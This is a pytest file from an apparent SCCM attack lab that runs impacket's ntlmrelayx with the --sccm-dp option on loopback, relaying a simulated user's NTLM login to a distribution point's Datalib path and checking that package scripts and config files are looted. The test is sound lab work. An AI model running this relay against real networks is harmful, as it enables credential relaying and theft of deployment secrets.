"""impacket's `ntlmrelayx.py --sccm-dp`, the real tool run unmodified as a subprocess, against the DP.

A victim (alice, pyspnego as a plain NTLM HTTP client) authenticates to ntlmrelayx's HTTP listener on
loopback; ntlmrelayx relays the handshake to `/sms_dp_smspkg$/Datalib`, then on that one authenticated
connection (no further Authorization headers: IIS's connection-based NTLM) reads the Datalib listing,
walks each package's folders through the listings' links and downloads the files with the extensions it
looks for. The loot must be the lab's package files, byte for byte.
"""

from __future__ import annotations

from pathlib import Path

from cmglab.runtime.contentlib import ContentLibrary
from cmglab.runtime.lab import Lab
from tests.support.lab import lab_fixture
from tests.support.relay import relay

dp = lab_fixture("management-point", "distribution-point")  # the MP builds the client package


def test_ntlmrelayx_sccm_dp_lists_and_downloads_the_packages(dp: Lab, tmp_path: Path) -> None:
    user = next(a for a in dp.config.active_directory.accounts if a.name == "alice")
    target = f"http://127.0.0.1:{dp.config.ports.distribution_point_http}/sms_dp_smspkg$/Datalib"
    log = relay(
        tmp_path,
        target,
        ["--sccm-dp", "--sccm-dp-extensions", ".ps1,.bat,.xml,.txt,.config,.cmd"],
        f"CORP\\{user.name}",
        user.password,
        timeout=90,
    )
    assert "DONE - attack finished" in log, log
    library = ContentLibrary(dp.content_dir, dp.config)
    assert f"Found {len(library.packages())} packages" in log, log
    loot = next(tmp_path.glob("127.0.0.1_*_sccm_dp_loot"))
    index = (loot / "index.txt").read_text()
    wanted = (".ps1", ".bat", ".xml", ".txt", ".config", ".cmd")
    checked = 0
    for package in library.packages():
        assert package.content_version in index
        for f in library.files(package):
            assert f.path.split("/")[-1] in index, (f.path, index)
            if not f.path.endswith(wanted):
                continue
            got = loot / "packages" / package.content_version / f.path.replace("/", "__")
            assert got.read_bytes() == (library.folder(package) / f.path).read_bytes(), f.path
            checked += 1
    assert checked >= 8  # scripts, unattend.xml, the application's config among them
    iis = (dp.dir / "logs" / "distribution-point" / "u_ex.log").read_text()
    assert "/sms_dp_smspkg$/Datalib - " in iis and "CORP\\alice" in iis
